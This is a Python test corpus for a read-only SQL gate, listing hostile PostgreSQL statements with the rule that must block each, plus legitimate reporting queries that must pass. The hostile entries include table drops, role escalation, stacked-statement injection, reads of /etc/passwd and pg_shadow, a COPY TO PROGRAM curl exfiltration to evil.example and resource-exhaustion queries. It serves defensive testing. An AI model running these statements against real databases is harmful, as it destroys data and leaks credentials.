"""The gate's test corpus: hostile statements with the rule that must catch each, and
legitimate reads that must pass. Shared by the unit tests (the gate alone) and the
integration and contract tests (through execution)."""

from __future__ import annotations

from services.sql import GateRule

R = GateRule

HOSTILE: list[tuple[str, GateRule]] = [
    # writes
    ("DELETE FROM companies", R.QUERY_ROOT),
    ("delete from companies where true", R.QUERY_ROOT),
    ("UPDATE opportunities SET amount = 0", R.QUERY_ROOT),
    ("INSERT INTO companies (company_id) VALUES (1)", R.QUERY_ROOT),
    ("INSERT INTO companies SELECT * FROM companies", R.QUERY_ROOT),
    ("INSERT INTO companies VALUES (1) ON CONFLICT DO NOTHING", R.QUERY_ROOT),
    (
        "MERGE INTO companies c USING contacts x ON c.company_id = x.company_id "
        "WHEN MATCHED THEN DELETE",
        R.QUERY_ROOT,
    ),
    ("TRUNCATE companies", R.QUERY_ROOT),
    ("TRUNCATE TABLE opportunities CASCADE", R.QUERY_ROOT),
    ("WITH x AS (SELECT 1) DELETE FROM companies", R.QUERY_ROOT),
    ("WITH x AS (SELECT 1) UPDATE companies SET name = 'x'", R.QUERY_ROOT),
    # DDL
    ("DROP TABLE companies", R.QUERY_ROOT),
    ("DROP SCHEMA public CASCADE", R.QUERY_ROOT),
    ("DROP DATABASE tandem_warehouse", R.QUERY_ROOT),
    ("CREATE TABLE stolen AS SELECT * FROM contacts", R.QUERY_ROOT),
    ("CREATE TABLE t (a int)", R.QUERY_ROOT),
    ("CREATE TEMP TABLE t AS SELECT 1", R.QUERY_ROOT),
    ("CREATE INDEX i ON companies (name)", R.QUERY_ROOT),
    ("CREATE VIEW v AS SELECT * FROM contacts", R.QUERY_ROOT),
    ("CREATE FUNCTION f() RETURNS void AS $$ DELETE FROM companies $$ LANGUAGE sql", R.QUERY_ROOT),
    ("CREATE EXTENSION dblink", R.QUERY_ROOT),
    ("CREATE TRIGGER t BEFORE INSERT ON companies EXECUTE FUNCTION f()", R.QUERY_ROOT),
    ("ALTER TABLE companies ADD COLUMN x int", R.QUERY_ROOT),
    ("ALTER TABLE companies DISABLE ROW LEVEL SECURITY", R.QUERY_ROOT),
    ("ALTER SYSTEM SET statement_timeout = 0", R.QUERY_ROOT),
    ("COMMENT ON TABLE companies IS 'x'", R.QUERY_ROOT),
    ("REINDEX TABLE companies", R.QUERY_ROOT),
    ("VACUUM companies", R.QUERY_ROOT),
    ("ANALYZE companies", R.QUERY_ROOT),
    ("CLUSTER companies", R.QUERY_ROOT),
    ("REFRESH MATERIALIZED VIEW v", R.QUERY_ROOT),
    # DCL and roles
    ("GRANT ALL ON companies TO PUBLIC", R.QUERY_ROOT),
    ("REVOKE SELECT ON companies FROM tandem_reader", R.QUERY_ROOT),
    ("CREATE ROLE attacker SUPERUSER", R.QUERY_ROOT),
    ("ALTER ROLE tandem_reader SUPERUSER", R.QUERY_ROOT),
    ("SET ROLE postgres", R.QUERY_ROOT),
    ("RESET ROLE", R.QUERY_ROOT),
    ("SET SESSION AUTHORIZATION postgres", R.QUERY_ROOT),
    # session and transaction control
    ("SET statement_timeout = 0", R.QUERY_ROOT),
    ("SET LOCAL statement_timeout = 0", R.QUERY_ROOT),
    ("SET default_transaction_read_only = off", R.QUERY_ROOT),
    ("SET TRANSACTION READ WRITE", R.QUERY_ROOT),
    ("RESET ALL", R.QUERY_ROOT),
    ("SHOW ALL", R.QUERY_ROOT),
    ("BEGIN", R.QUERY_ROOT),
    ("COMMIT", R.QUERY_ROOT),
    ("ROLLBACK", R.QUERY_ROOT),
    ("LISTEN channel", R.QUERY_ROOT),
    ("NOTIFY channel", R.QUERY_ROOT),
    ("LOCK TABLE companies", R.QUERY_ROOT),
    ("DISCARD ALL", R.QUERY_ROOT),
    ("PREPARE p AS DELETE FROM companies", R.QUERY_ROOT),
    ("EXECUTE p", R.QUERY_ROOT),
    ("DEALLOCATE p", R.QUERY_ROOT),
    ("DECLARE c CURSOR FOR SELECT * FROM companies", R.QUERY_ROOT),
    ("FETCH ALL FROM c", R.QUERY_ROOT),
    ("CHECKPOINT", R.QUERY_ROOT),
    ("LOAD 'evil.so'", R.QUERY_ROOT),
    ("EXPLAIN ANALYZE DELETE FROM companies", R.QUERY_ROOT),
    ("VALUES (1), (2)", R.QUERY_ROOT),
    # COPY, DO, CALL
    ("COPY companies TO STDOUT", R.QUERY_ROOT),
    ("COPY companies TO '/tmp/companies.csv'", R.QUERY_ROOT),
    ("COPY (SELECT * FROM contacts) TO PROGRAM 'curl -d @- evil.example'", R.QUERY_ROOT),
    ("COPY companies FROM PROGRAM 'id'", R.QUERY_ROOT),
    ("DO $$ BEGIN DELETE FROM companies; END $$", R.QUERY_ROOT),
    ("DO $x$ BEGIN EXECUTE 'DROP TABLE companies'; END $x$", R.QUERY_ROOT),
    ("CALL purge_companies()", R.QUERY_ROOT),
    # stacked statements and empty input
    ("SELECT 1; DELETE FROM companies", R.SINGLE_STATEMENT),
    ("SELECT * FROM companies; DROP TABLE companies;--", R.SINGLE_STATEMENT),
    ("SELECT 1; SELECT 2", R.SINGLE_STATEMENT),
    ("SELECT 1;COMMIT;DELETE FROM companies", R.SINGLE_STATEMENT),
    ("SELECT name FROM companies; SET ROLE postgres", R.SINGLE_STATEMENT),
    ("SELECT 1 -- harmless\n; DROP TABLE companies", R.SINGLE_STATEMENT),
    ("SELECT 1 /* ; */; DELETE FROM companies", R.SINGLE_STATEMENT),
    ("SELECT $a$ x $a$; DELETE FROM companies", R.SINGLE_STATEMENT),
    ("SELECT $$;$$; TRUNCATE companies", R.SINGLE_STATEMENT),
    ("SELECT 'a'';'; DELETE FROM companies", R.SINGLE_STATEMENT),
    ("", R.SINGLE_STATEMENT),
    ("   ", R.SINGLE_STATEMENT),
    (";", R.SINGLE_STATEMENT),
    ("-- only a comment", R.SINGLE_STATEMENT),
    ("/* nothing */", R.SINGLE_STATEMENT),
    # comments and case hiding keywords
    ("/* SELECT */ DELETE FROM companies", R.QUERY_ROOT),
    ("-- SELECT\nDELETE FROM companies", R.QUERY_ROOT),
    ("DeLeTe FrOm companies", R.QUERY_ROOT),
    ("DEL/**/ETE FROM companies", R.PARSE_ERROR),
    ("SELECT/**/*/**/FROM/**/companies/**/FOR/**/UPDATE", R.LOCKING_CLAUSE),
    ("SELECT * FROM companies /* FOR SHARE */ FOR UPDATE", R.LOCKING_CLAUSE),
    # data-modifying CTEs
    ("WITH d AS (DELETE FROM companies RETURNING *) SELECT * FROM d", R.DATA_MODIFYING_CTE),
    (
        "WITH u AS (UPDATE opportunities SET amount = 0 RETURNING opportunity_id) "
        "SELECT count(*) FROM u",
        R.DATA_MODIFYING_CTE,
    ),
    (
        "WITH i AS (INSERT INTO companies (company_id) VALUES (9999) RETURNING company_id) "
        "SELECT * FROM i",
        R.DATA_MODIFYING_CTE,
    ),
    (
        "WITH m AS (MERGE INTO companies c USING contacts x ON c.company_id = x.company_id "
        "WHEN MATCHED THEN DELETE) SELECT 1",
        R.DATA_MODIFYING_CTE,
    ),
    (
        "WITH a AS (SELECT 1), d AS (DELETE FROM contacts RETURNING 1) SELECT * FROM a",
        R.DATA_MODIFYING_CTE,
    ),
    (
        "SELECT * FROM (WITH d AS (DELETE FROM companies RETURNING 1) SELECT * FROM d) s",
        R.DATA_MODIFYING_CTE,
    ),
    (
        "SELECT * FROM companies WHERE company_id IN (WITH u AS (UPDATE companies SET "
        "name = 'x' RETURNING company_id) SELECT company_id FROM u)",
        R.DATA_MODIFYING_CTE,
    ),
    (
        "WITH RECURSIVE d AS (DELETE FROM activities RETURNING activity_id) SELECT * FROM d",
        R.DATA_MODIFYING_CTE,
    ),
    # SELECT INTO
    ("SELECT * INTO stolen FROM contacts", R.SELECT_INTO),
    ("SELECT name INTO TEMP t FROM companies", R.SELECT_INTO),
    ("SELECT name INTO UNLOGGED t FROM companies", R.SELECT_INTO),
    ("SELECT * INTO TABLE t FROM companies", R.SELECT_INTO),
    ("WITH x AS (SELECT 1 AS a) SELECT a INTO t FROM x", R.SELECT_INTO),
    # locking clauses
    ("SELECT * FROM companies FOR UPDATE", R.LOCKING_CLAUSE),
    ("SELECT * FROM companies FOR SHARE", R.LOCKING_CLAUSE),
    ("SELECT * FROM companies FOR NO KEY UPDATE", R.LOCKING_CLAUSE),
    ("SELECT * FROM companies FOR KEY SHARE", R.LOCKING_CLAUSE),
    ("SELECT * FROM companies FOR UPDATE NOWAIT", R.LOCKING_CLAUSE),
    ("SELECT * FROM companies FOR UPDATE SKIP LOCKED", R.LOCKING_CLAUSE),
    ("SELECT * FROM companies c FOR UPDATE OF c", R.LOCKING_CLAUSE),
    ("SELECT * FROM (SELECT * FROM companies FOR UPDATE) s", R.LOCKING_CLAUSE),
    ("WITH l AS (SELECT * FROM companies FOR SHARE) SELECT * FROM l", R.LOCKING_CLAUSE),
    # dangerous functions
    ("SELECT pg_sleep(60)", R.FUNCTION_NOT_ALLOWED),
    ("SELECT pg_sleep_for('1 minute')", R.FUNCTION_NOT_ALLOWED),
    ("SELECT pg_sleep_until(now() + interval '1 minute')", R.FUNCTION_NOT_ALLOWED),
    ("SELECT PG_SLEEP(1)", R.FUNCTION_NOT_ALLOWED),
    ('SELECT "pg_sleep"(1)', R.FUNCTION_NOT_ALLOWED),
    ("SELECT pg_catalog.pg_sleep(1)", R.FUNCTION_NOT_ALLOWED),
    ("SELECT * FROM companies ORDER BY pg_sleep(1)", R.FUNCTION_NOT_ALLOWED),
    ("SELECT * FROM companies WHERE pg_sleep(1) IS NOT NULL", R.FUNCTION_NOT_ALLOWED),
    ("SELECT CASE WHEN true THEN pg_sleep(1) END", R.FUNCTION_NOT_ALLOWED),
    ("SELECT 1 UNION SELECT pg_sleep(1)", R.FUNCTION_NOT_ALLOWED),
    ("SELECT (SELECT pg_sleep(1))", R.FUNCTION_NOT_ALLOWED),
    ("WITH s AS (SELECT pg_sleep(1)) SELECT * FROM s", R.FUNCTION_NOT_ALLOWED),
    ("SELECT * FROM ROWS FROM (pg_sleep(1))", R.FUNCTION_NOT_ALLOWED),
    ("SELECT pg_read_file('/etc/passwd')", R.FUNCTION_NOT_ALLOWED),
    ("SELECT lower(pg_read_file('postgresql.conf'))", R.FUNCTION_NOT_ALLOWED),
    ("SELECT pg_read_binary_file('/etc/passwd')", R.FUNCTION_NOT_ALLOWED),
    ("SELECT * FROM pg_ls_dir('.')", R.FUNCTION_NOT_ALLOWED),
    ("SELECT pg_stat_file('postgresql.conf')", R.FUNCTION_NOT_ALLOWED),
    ("SELECT lo_import('/etc/passwd')", R.FUNCTION_NOT_ALLOWED),
    ("SELECT lo_export(1, '/tmp/x')", R.FUNCTION_NOT_ALLOWED),
    ("SELECT lo_create(0)", R.FUNCTION_NOT_ALLOWED),
    ("SELECT lo_unlink(1)", R.FUNCTION_NOT_ALLOWED),
    ("SELECT lo_from_bytea(0, 'x')", R.FUNCTION_NOT_ALLOWED),
    ("SELECT dblink('dbname=postgres', 'SELECT 1')", R.FUNCTION_NOT_ALLOWED),
    ("SELECT dblink_exec('dbname=postgres', 'DROP TABLE tenants')", R.FUNCTION_NOT_ALLOWED),
    ("SELECT dblink_connect('c', 'dbname=postgres')", R.FUNCTION_NOT_ALLOWED),
    ("SELECT set_config('statement_timeout', '0', false)", R.FUNCTION_NOT_ALLOWED),
    ("SELECT set_config('default_transaction_read_only', 'off', false)", R.FUNCTION_NOT_ALLOWED),
    ("SELECT pg_catalog.set_config('role', 'postgres', true)", R.FUNCTION_NOT_ALLOWED),
    ("SELECT current_setting('app.tenant_secret')", R.FUNCTION_NOT_ALLOWED),
    ("SELECT pg_terminate_backend(1)", R.FUNCTION_NOT_ALLOWED),
    ("SELECT pg_cancel_backend(1)", R.FUNCTION_NOT_ALLOWED),
    ("SELECT pg_reload_conf()", R.FUNCTION_NOT_ALLOWED),
    ("SELECT pg_rotate_logfile()", R.FUNCTION_NOT_ALLOWED),
    ("SELECT pg_advisory_lock(1)", R.FUNCTION_NOT_ALLOWED),
    ("SELECT pg_try_advisory_xact_lock(1)", R.FUNCTION_NOT_ALLOWED),
    ("SELECT pg_notify('channel', 'payload')", R.FUNCTION_NOT_ALLOWED),
    ("SELECT txid_current()", R.FUNCTION_NOT_ALLOWED),
    ("SELECT nextval('companies_company_id_seq')", R.FUNCTION_NOT_ALLOWED),
    ("SELECT setval('companies_company_id_seq', 1)", R.FUNCTION_NOT_ALLOWED),
    ("SELECT query_to_xml('DELETE FROM companies', true, true, '')", R.FUNCTION_NOT_ALLOWED),
    ("SELECT ts_stat('SELECT 1')", R.FUNCTION_NOT_ALLOWED),
    ("SELECT version()", R.FUNCTION_NOT_ALLOWED),
    ("SELECT current_user", R.FUNCTION_NOT_ALLOWED),
    ("SELECT pg_logical_emit_message(true, 'p', 'x')", R.FUNCTION_NOT_ALLOWED),
    ("SELECT 'pg_authid'::regclass", R.FUNCTION_NOT_ALLOWED),
    ("SELECT 'pg_sleep'::regproc", R.FUNCTION_NOT_ALLOWED),
    ("SELECT CAST(1 AS oid)", R.FUNCTION_NOT_ALLOWED),
    # system schemas and catalogs
    ("SELECT * FROM pg_catalog.pg_authid", R.SYSTEM_SCHEMA),
    ("SELECT usename, passwd FROM pg_shadow", R.SYSTEM_SCHEMA),
    ("SELECT * FROM pg_user", R.SYSTEM_SCHEMA),
    ("SELECT * FROM pg_roles", R.SYSTEM_SCHEMA),
    ("SELECT query FROM pg_stat_activity", R.SYSTEM_SCHEMA),
    ("SELECT * FROM pg_settings", R.SYSTEM_SCHEMA),
    ("SELECT * FROM information_schema.tables", R.SYSTEM_SCHEMA),
    ("SELECT * FROM information_schema.columns", R.SYSTEM_SCHEMA),
    ('SELECT * FROM "pg_catalog"."pg_class"', R.SYSTEM_SCHEMA),
    ("SELECT * FROM PG_CATALOG.PG_CLASS", R.SYSTEM_SCHEMA),
    ("SELECT * FROM pg_toast.pg_toast_2619", R.SYSTEM_SCHEMA),
    ("SELECT * FROM pg_temp.t", R.SYSTEM_SCHEMA),
    ("SELECT * FROM companies c JOIN pg_catalog.pg_roles r ON true", R.SYSTEM_SCHEMA),
    ("SELECT * FROM companies WHERE EXISTS (SELECT 1 FROM pg_stat_activity)", R.SYSTEM_SCHEMA),
    ("WITH u AS (SELECT * FROM pg_user) SELECT * FROM u", R.SYSTEM_SCHEMA),
    ("SELECT * FROM companies, LATERAL (SELECT * FROM pg_settings) s", R.SYSTEM_SCHEMA),
    ("SELECT pg_catalog.pg_class.relname FROM companies", R.SYSTEM_SCHEMA),
    ("SELECT * FROM companies UNION ALL SELECT * FROM pg_database", R.SYSTEM_SCHEMA),
    # tables outside the catalog
    ("SELECT * FROM secrets", R.UNKNOWN_TABLE),
    ("SELECT * FROM public.secrets", R.UNKNOWN_TABLE),
    ("SELECT * FROM tenants", R.UNKNOWN_TABLE),
    ("SELECT * FROM documents", R.UNKNOWN_TABLE),
    ("SELECT * FROM tandem_internal.warehouse_info", R.UNKNOWN_TABLE),
    ("SELECT * FROM postgres.public.tenants", R.UNKNOWN_TABLE),
    ('SELECT * FROM "Companies"', R.UNKNOWN_TABLE),
    ("TABLE secrets", R.UNKNOWN_TABLE),
    ("WITH secrets AS (SELECT * FROM secrets) SELECT * FROM secrets", R.UNKNOWN_TABLE),
    (
        "WITH a AS (SELECT 1) SELECT * FROM (WITH b AS (SELECT 1) SELECT * FROM b) x, b",
        R.UNKNOWN_TABLE,
    ),
    # unicode tricks
    ("SELECT * FROM c\u043empanies", R.UNKNOWN_TABLE),  # Cyrillic o
    ("SELECT * FROM \uff43ompanies", R.UNKNOWN_TABLE),  # fullwidth c
    ("SELECT * FROM companies\u200b", R.UNKNOWN_TABLE),  # zero-width space
    ("SELECT\u200b* FROM companies", R.PARSE_ERROR),
    ("SEL\u200bECT * FROM companies", R.PARSE_ERROR),
    ("\uff24\uff25\uff2c\uff25\uff34\uff25 FROM companies", R.PARSE_ERROR),  # fullwidth DELETE
    ("DELETE\u00a0FROM companies", R.QUERY_ROOT),  # no-break space
    ('SELECT * FROM U&"pg\\0063atalog".pg_authid', R.PARSE_ERROR),
    # size
    ("SELECT 1" + " " * 20_001, R.STATEMENT_TOO_LONG),
    # values built past the result cap (one backend would hold them whole)
    ("SELECT length(repeat('x', 900000000))", R.VALUE_TOO_LARGE),
    ("SELECT length(repeat('x', 30000 * 30000))", R.VALUE_TOO_LARGE),
    ("SELECT length(repeat(repeat('x', 30000), 30000))", R.VALUE_TOO_LARGE),
    ("SELECT length(repeat(name, 1000000)) FROM companies", R.VALUE_TOO_LARGE),
    ("SELECT length(repeat('x', company_id * 100000)) FROM companies", R.VALUE_TOO_LARGE),
    ("SELECT length(lpad('', 900000000))", R.VALUE_TOO_LARGE),
    (
        "SELECT length(repeat('x', 1000000) || repeat('x', 1000000) || repeat('x', 1000000))",
        R.VALUE_TOO_LARGE,
    ),
    ("SELECT length(concat(lpad('a', 1000000), lpad('b', 1000000)))", R.VALUE_TOO_LARGE),
    ("SELECT length(rpad(name, 900000000, 'x')) FROM companies", R.VALUE_TOO_LARGE),
    ("SELECT length(lpad(name, company_id * 100000)) FROM companies", R.VALUE_TOO_LARGE),
    ("SELECT length(format('%900000000s', 'x'))", R.VALUE_TOO_LARGE),
    ("SELECT length(format('%*s', company_id * 100000, name)) FROM companies", R.VALUE_TOO_LARGE),
    ("SELECT count(*) FROM generate_series(1, 900000000)", R.VALUE_TOO_LARGE),
    (
        "SELECT count(*) FROM generate_series(TIMESTAMP '2000-01-01', TIMESTAMP '2030-01-01', "
        "interval '1 second')",
        R.VALUE_TOO_LARGE,
    ),
    (
        "SELECT length(string_agg(repeat('x', 100000), '')) FROM generate_series(1, 10000)",
        R.VALUE_TOO_LARGE,
    ),
    (
        "SELECT length(string_agg(repeat('x', 1000), '' ORDER BY 1)) "
        "FROM generate_series(1, 1000000)",
        R.VALUE_TOO_LARGE,
    ),
    (
        "SELECT cardinality(array_agg(repeat('x', 1000) ORDER BY 1)) "
        "FROM generate_series(1, 1000000)",
        R.VALUE_TOO_LARGE,
    ),
    (
        "SELECT length(string_agg(s, '')) FROM (SELECT repeat('x', 1000) AS s "
        "FROM generate_series(1, 1000000) AS g) AS q",
        R.VALUE_TOO_LARGE,
    ),
    (
        "WITH w AS (SELECT repeat('x', 10000) AS s FROM generate_series(1, 1000)) "
        "SELECT cardinality(array_agg(s)) FROM w",
        R.VALUE_TOO_LARGE,
    ),
    (
        "SELECT length(string_agg(repeat(name, 1000), '')) FROM companies, "
        "generate_series(1, 1000000)",
        R.VALUE_TOO_LARGE,
    ),
    (
        "WITH RECURSIVE r(s) AS (SELECT 'x' UNION ALL SELECT s || s FROM r "
        "WHERE length(s) < 900000000) SELECT length(max(s)) FROM r",
        R.VALUE_TOO_LARGE,
    ),
    (
        "WITH RECURSIVE r(s) AS (SELECT 'x' UNION ALL SELECT repeat(r.s, 2) FROM r "
        "WHERE length(r.s) < 900000000) SELECT length(max(s)) FROM r",
        R.VALUE_TOO_LARGE,
    ),
]

LEGITIMATE: list[str] = [
    "SELECT replace(name, 'Inc', 'Incorporated') FROM companies",
    "SELECT name, deleted_at FROM companies WHERE deleted_at IS NULL",
    'SELECT "delete", "update_at", "comment" FROM audit_notes',
    "SELECT delete, update_at, comment FROM audit_notes",
    "SELECT n.comment AS comment FROM audit_notes AS n",
    "SELECT 'DROP TABLE companies; DELETE FROM companies' AS note",
    "SELECT $$; DROP TABLE companies; $$ AS text_that_looks_hostile",
    "SELECT name FROM companies WHERE name ILIKE '%delete%'",
    "SELECT name FROM companies WHERE name LIKE 'A\\_%'",
    "SELECT name FROM companies WHERE name NOT LIKE '%update%'",
    "SELECT rank() OVER (PARTITION BY industry ORDER BY annual_revenue DESC) FROM companies",
    "SELECT row_number() OVER w, lag(amount) OVER w, lead(amount, 2) OVER w "
    "FROM opportunities WINDOW w AS (ORDER BY close_date)",
    "SELECT sum(amount) OVER (ORDER BY close_date ROWS BETWEEN UNBOUNDED PRECEDING AND "
    "CURRENT ROW) FROM opportunities",
    "SELECT ntile(4) OVER (ORDER BY score), percent_rank() OVER (ORDER BY score), "
    "cume_dist() OVER (ORDER BY score) FROM opportunities",
    "SELECT first_value(name) OVER (PARTITION BY industry ORDER BY company_id) FROM companies",
    "SELECT dense_rank() OVER (ORDER BY amount DESC) AS r, name FROM opportunities",
    "WITH won AS (SELECT company_id, sum(amount) AS total FROM opportunities WHERE stage = "
    "'Closed Won' GROUP BY company_id) SELECT c.name, w.total FROM won w JOIN companies c "
    "ON c.company_id = w.company_id ORDER BY w.total DESC LIMIT 10",
    "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 12) SELECT n FROM r",
    "WITH companies AS (SELECT 1 AS company_id) SELECT company_id FROM companies",
    "WITH a AS (SELECT 1 AS x), b AS (SELECT x FROM a) SELECT * FROM b",
    "SELECT * FROM (SELECT opportunity_id, amount FROM opportunities WHERE amount > 1000) big",
    "SELECT name FROM companies WHERE company_id IN "
    "(SELECT company_id FROM opportunities WHERE score > 90)",
    "SELECT name FROM companies c WHERE EXISTS "
    "(SELECT 1 FROM contacts x WHERE x.company_id = c.company_id)",
    "SELECT date_trunc('month', close_date) AS month, count(*) FROM opportunities "
    "GROUP BY 1 ORDER BY 1",
    "SELECT date_trunc('quarter', created_at)::date AS q, sum(amount) FROM opportunities "
    "GROUP BY q",
    "SELECT extract(year FROM close_date) AS y, avg(amount) FROM opportunities GROUP BY y",
    "SELECT date_part('month', close_date) FROM opportunities",
    "SELECT count(*) FROM opportunities WHERE close_date >= DATE '2025-04-01' "
    "AND close_date < DATE '2025-07-01'",
    "SELECT count(*) FROM activities WHERE occurred_at > now() - interval '30 days'",
    "SELECT count(*) FROM activities WHERE occurred_at::date = current_date",
    "SELECT age(current_date, hired_on) FROM owners",
    "SELECT to_char(close_date, 'YYYY-MM') AS ym, count(*) FROM opportunities GROUP BY ym",
    "SELECT CASE WHEN score >= 80 THEN 'hot' WHEN score >= 50 THEN 'warm' ELSE 'cold' END "
    "AS band, count(*) FROM opportunities GROUP BY band",
    "SELECT coalesce(lost_reason, 'n/a'), nullif(score, 0) FROM opportunities",
    "SELECT industry, string_agg(name, ', ' ORDER BY name) FROM companies GROUP BY industry",
    "SELECT lpad(company_id::text, 8, '0'), rpad(name, 40, '.') FROM companies",
    "SELECT repeat('*', 10) AS bar, format('%-20s|%8s', name, company_id) FROM companies",
    "SELECT string_agg(g::text, ',') FROM generate_series(1, 1000) AS g",
    "SELECT count(*) FROM generate_series(1, (SELECT max(company_id) FROM companies)) AS g",
    "WITH RECURSIVE r(n, path) AS (SELECT 1, 'a' UNION ALL SELECT n + 1, path || '/' || n::text "
    "FROM r WHERE n < 12) SELECT path FROM r",
    "SELECT industry, array_agg(DISTINCT segment) FROM companies GROUP BY industry",
    "SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY amount) FROM opportunities",
    "SELECT count(*) FILTER (WHERE stage = 'Closed Won') AS won, count(*) FROM opportunities",
    "SELECT round(100.0 * count(*) FILTER (WHERE stage = 'Closed Won') / "
    "nullif(count(*), 0), 1) AS win_rate FROM opportunities",
    "SELECT DISTINCT ON (company_id) company_id, amount FROM opportunities "
    "ORDER BY company_id, amount DESC",
    "SELECT name FROM companies UNION SELECT name FROM products",
    "SELECT company_id FROM companies INTERSECT SELECT company_id FROM contacts",
    "SELECT company_id FROM companies EXCEPT SELECT company_id FROM opportunities",
    "SELECT c.name, o.amount FROM companies c, LATERAL (SELECT amount FROM opportunities o "
    "WHERE o.company_id = c.company_id ORDER BY amount DESC LIMIT 1) o",
    "SELECT d::date FROM generate_series(DATE '2025-01-01', DATE '2025-06-01', "
    "interval '1 month') AS g(d)",
    "SELECT * FROM opportunities WHERE stage = ANY(ARRAY['Proposal', 'Negotiation'])",
    "SELECT amount::numeric(12, 2), score::text, close_date::timestamp FROM opportunities",
    "SELECT CAST(amount AS double precision) FROM opportunities",
    "SELECT lower(name), upper(name), length(name), initcap(name), trim(name), "
    "substring(name FROM 1 FOR 3) FROM companies",
    "SELECT split_part(email, '@', 2) AS domain, count(*) FROM contacts GROUP BY domain",
    "SELECT concat(first_name, ' ', last_name), concat_ws(' ', first_name, last_name) "
    "FROM contacts",
    "SELECT regexp_replace(name, '\\s+', ' ', 'g') FROM companies",
    "SELECT industry, count(*) FROM companies GROUP BY industry HAVING count(*) > 10 "
    "ORDER BY count(*) DESC",
    "SELECT name FROM companies ORDER BY annual_revenue DESC NULLS LAST LIMIT 5 OFFSET 5",
    "SELECT name FROM companies FETCH FIRST 5 ROWS ONLY",
    "SELECT greatest(amount, 0), least(score, 100), abs(amount), floor(amount), ceil(amount) "
    "FROM opportunities",
    "SELECT count(DISTINCT company_id) FROM opportunities",
    "SELECT avg(amount)::numeric(12, 2) FROM opportunities",
    "SELECT stddev(amount), variance(amount) FROM opportunities",
    "SELECT industry, segment, count(*) FROM companies GROUP BY ROLLUP (industry, segment)",
    "TABLE companies",
    "(SELECT name FROM companies ORDER BY name LIMIT 3)",
    "SELECT name ~ '^A', name ~* 'labs' FROM companies",
    'SELECT c.name AS "select", o.amount AS "from" FROM companies c '
    "JOIN opportunities o ON o.company_id = c.company_id",
    "SELECT name FROM companies WHERE name NOT IN (SELECT name FROM products)",
    "SELECT count(*) FROM opportunities WHERE close_date BETWEEN '2025-01-01' AND '2025-03-31'",
    "SELECT o.opportunity_id FROM opportunities o LEFT JOIN activities a "
    "ON a.opportunity_id = o.opportunity_id WHERE a.activity_id IS NULL",
    "SELECT public.companies.name FROM public.companies",
    "SELECT 1",
    "SELECT width_bucket(score, 0, 100, 10) AS bucket, count(*) FROM opportunities GROUP BY bucket",
    "SELECT 'it''s' AS s",
    "SELECT E'line\\nbreak' AS s",
    "SELECT make_date(2025, 1, 1), justify_days(interval '40 days')",
    "SELECT x FROM (VALUES (1), (2)) AS v(x)",
    "SELECT mode() WITHIN GROUP (ORDER BY industry) FROM companies",
    "SELECT bool_or(active), every(active) FROM owners",
    "SELECT count(*) OVER () AS total, name FROM companies",
    "SELECT strpos(name, 'Labs'), position('a' IN name), left(name, 3), right(name, 3) "
    "FROM companies",
    "SELECT name FROM companies WHERE name IS NOT DISTINCT FROM 'x'",
    "SELECT '{\"a\": 1}'::jsonb AS j, ARRAY[1, 2] AS a, interval '1 day' AS i",
    "SELECT name FROM companies -- trailing comment",
    "/* leading comment */ SELECT name FROM companies",
    "SELECT 1;",
]
